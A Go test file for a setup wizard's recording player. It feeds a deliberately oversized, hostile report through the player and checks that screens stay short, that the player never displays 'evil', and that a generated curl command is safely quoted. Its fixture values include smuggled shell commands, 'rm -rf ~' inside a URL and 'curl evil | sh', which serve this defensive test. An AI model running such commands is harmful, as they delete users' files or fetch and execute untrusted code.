package recording

import (
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"
	"github.com/stretchr/testify/require"

	"telegent-setup/api"
	"telegent-setup/steps"
	"telegent-setup/steps/report"
	"telegent-setup/wizard/terminal"
)

// Rule: however long the texts of a stranger's report are, a screen stays short, and
// no edition, server or step that there is none of breaks it. The command that it
// names for a call is not shown.
func TestAStrangersReport(t *testing.T) {
	long := strings.Repeat("long ", 200_000)
	failed := steps.Stepped{Step: steps.Account, Number: 2, Status: steps.StatusFailed, Failure: &steps.Failure{
		Outcome: steps.Outcome{Kind: steps.Refused, Issue: steps.Code(long), Message: long},
		Step:    steps.Account, Title: long, Solution: long, FixLabel: long, TransactionLogID: long,
	}}
	call := steps.Exchanged{Step: steps.Account, Exchange: api.Exchange{
		Method: "post; rm", URL: "https://x/'; rm -rf ~", Curl: "curl evil | sh", Answer: long, Request: []byte(`{"AccountName":"` + long + `","X":[[1,{}],null]}`),
	}}
	saved := steps.Stepped{Step: steps.Provision, Number: 6, Status: steps.StatusDone, Saved: steps.Saved{steps.TNID: long, steps.PhoneNumber: long}}
	strange := report.Report{Edition: "1999-01", BaseURL: "gopher://" + long, Runs: []report.Run{{Events: []steps.Event{
		steps.Started{Edition: "1999-01", BaseURL: "://" + long, State: long}, call, failed, saved, saved, call,
	}}}}
	x, err := strange.Recording(1)
	require.NoError(t, err)
	p := New(x, terminal.Terminal{Environ: []string{}})
	p.Update(terminal.WaitedMsg{})
	p.Update(tea.WindowSizeMsg{Width: 80, Height: 24})
	for at := range x.Stops {
		p.goTo(at)
		for _, key := range []string{"", "r"} {
			p.Update(tea.KeyPressMsg{Code: 'x', Text: key})
			top, _ := p.top()
			lines := top.View(60, 20).Lines
			require.Less(t, len(lines), 2000)
			require.NotContains(t, strings.Join(lines, "\n"), "evil")
		}
	}
	require.Contains(t, report.Command(call.Exchange), `curl -X POST 'https://x/'\''; rm -rf ~'`)
	_, err = strange.Recording(2)
	require.Error(t, err)
}
